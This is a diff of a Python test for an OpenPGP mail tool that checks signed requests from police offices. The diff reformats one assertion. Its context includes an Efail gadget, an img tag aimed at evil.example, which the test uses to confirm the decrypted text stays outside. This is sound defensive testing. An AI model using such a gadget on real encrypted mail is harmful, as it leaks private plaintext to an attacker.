@@ -36,7 +36,7 @@ def of(public: bytes, secret: bytes, certificate: bytes = b"", private: bytes = 
     return MailKey(ADDRESS, "2026-11-30T09:00:00Z", told[0], told[2]), MailSecret(told[1], told[3])
 
 
-def test_parts_are_opened_and_read_apart(ring: Gpg) -> None:
+def test_parts_are_opened_and_read_apart(ring: Gpg) -> None:  # noqa: PLR0915 - one ring, many mails
     secret, public = openpgp_mail.make(ADDRESS)
     ring.run("--import", data=public)
     known, ours = {ring.run("--export", POLICE): "DE-BKA"}, [of(public, secret)]
@@ -51,10 +51,10 @@ def test_parts_are_opened_and_read_apart(ring: Gpg) -> None:
     assert mail.office == "DE-BKA"  # whatever stands in From
     assert mail.draft is not None
     assert mail.draft["targets"] == ["max@provider.example"]
-    assert line(mail.asking, of_senders("en")) == (
-        "From polizei-talbach.example, which this desk does not know; signed by the key of DE-BKA that two people "
-        "verified; not called back."
+    known_as = (
+        "From polizei-talbach.example, which this desk does not know; signed by the key of DE-BKA that two people"
     )
+    assert line(mail.asking, of_senders("en")) == f"{known_as} verified; not called back."
     # A picture's address that would take the clear text along stays outside (Efail).
     gadget = inline(ring.run(*seal, "-es", data=ORDER.encode()), '<img src="https://evil.example/\n')
     (text,) = opened(gadget)
